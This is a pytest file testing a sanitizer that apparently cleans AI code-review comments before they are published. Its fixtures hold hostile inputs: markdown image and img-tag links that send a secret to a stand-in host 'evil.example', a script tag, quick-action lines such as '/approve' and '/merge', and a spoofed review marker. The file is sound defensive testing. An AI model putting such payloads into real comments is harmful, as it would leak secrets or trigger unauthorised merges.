from __future__ import annotations

import pytest

from reviewer.publish import sanitize


@pytest.mark.parametrize(
    "text",
    ["/approve", "fine\n/merge", "  /close", "\t/assign @me", "ok\r\n/label ~bug"],
)
def test_no_line_can_start_a_quick_action(text: str) -> None:
    for line in sanitize(text).split("\n"):
        assert not line.lstrip().startswith("/")


def test_mentions_do_not_ping() -> None:
    out = sanitize("ask @alice or @group/team, mail bob@example.com, or @all")
    assert "`@alice`" in out and "`@group/team`" in out and "`@all`" in out
    assert "bob@example.com" in out


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/leak?d=SECRET)",
        "![x][ref]\n\n[ref]: https://evil.example/leak",
        '<img src="https://evil.example/leak">',
        "<script>alert(1)</script>",
        "<!-- ai-review fp=deadbeef -->",
    ],
)
def test_images_raw_html_and_marker_spoofing_are_neutralised(text: str) -> None:
    out = sanitize(text)
    assert "evil.example" not in out or "<" not in out
    assert "![" not in out and "<img" not in out and "<script" not in out and "<!--" not in out
